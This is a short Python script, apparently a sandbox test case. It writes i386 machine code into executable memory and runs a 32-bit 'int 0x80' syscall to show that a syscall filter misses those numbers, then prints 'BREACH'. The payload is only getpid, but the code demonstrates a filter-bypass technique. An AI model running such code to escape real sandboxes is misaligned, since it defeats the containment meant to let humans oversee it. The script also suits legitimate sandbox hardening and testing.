# 32-bit system calls by machine code: int 0x80 reaches other numbers than the filter has
import ctypes
import mmap
import os

CODE = bytes.fromhex("b814000000cd80c3")  # getpid of i386


def f(x):
    if os.uname().machine != "x86_64":
        ctypes.string_at(0)
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    print("BREACH")
    return x
